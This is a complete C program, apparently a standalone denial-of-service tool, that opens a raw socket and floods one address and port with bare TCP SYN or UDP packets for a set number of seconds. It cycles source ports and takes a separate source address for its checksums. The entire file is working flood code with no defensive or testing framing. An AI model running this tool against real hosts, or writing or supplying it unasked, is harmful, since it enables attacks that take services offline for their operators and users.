/* Sends new flows to one address and port as fast as it can: flood SOURCE DESTINATION PORT udp|tcp SECONDS.
   Every source port from 1024 on in turn; a TCP flow is a bare SYN. Prints how many packets were taken by the kernel. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define PORTS 64000

static uint32_t sum(const void *data, size_t bytes, uint32_t start)
{
    const uint16_t *words = data;
    for (size_t i = 0; i < bytes / 2; i++)
        start += words[i];
    return start;
}

static uint16_t folded(uint32_t value)
{
    while (value >> 16)
        value = (value & 0xffff) + (value >> 16);
    return (uint16_t)~value;
}

int main(int count, char **words)
{
    if (count != 6)
        return 2;
    int tcp = !strcmp(words[4], "tcp");
    int protocol = tcp ? IPPROTO_TCP : IPPROTO_UDP;
    int out = socket(AF_INET, SOCK_RAW, protocol);
    struct in_addr source;
    struct sockaddr_in to = {.sin_family = AF_INET};
    if (out < 0 || !inet_aton(words[1], &source) || !inet_aton(words[2], &to.sin_addr)) {
        perror("flood");
        return 1;
    }
    size_t size = tcp ? 20 : 8;
    uint8_t packet[20] = {0};
    uint16_t *shorts = (uint16_t *)packet;
    shorts[1] = htons((uint16_t)atoi(words[3]));
    if (tcp) {
        packet[12] = 5 << 4; /* header of five words */
        packet[13] = 0x02;   /* SYN */
        shorts[7] = htons(64240);
    } else {
        shorts[2] = htons(8); /* no checksum: allowed in UDP over IPv4 */
    }
    struct {
        struct in_addr source, destination;
        uint8_t zero, protocol;
        uint16_t length;
    } pseudo = {source, to.sin_addr, 0, (uint8_t)protocol, htons((uint16_t)size)};
    uint32_t start = sum(&pseudo, sizeof pseudo, 0);
    time_t end = time(NULL) + atoi(words[5]);
    long sent = 0;
    for (unsigned number = 0; number % 256 || time(NULL) < end; number++) {
        shorts[0] = htons((uint16_t)(1024 + number % PORTS));
        if (tcp) {
            shorts[8] = 0;
            shorts[8] = folded(sum(packet, size, start));
        }
        if (sendto(out, packet, size, 0, (struct sockaddr *)&to, sizeof to) > 0)
            sent++;
    }
    printf("%ld\n", sent);
    return 0;
}
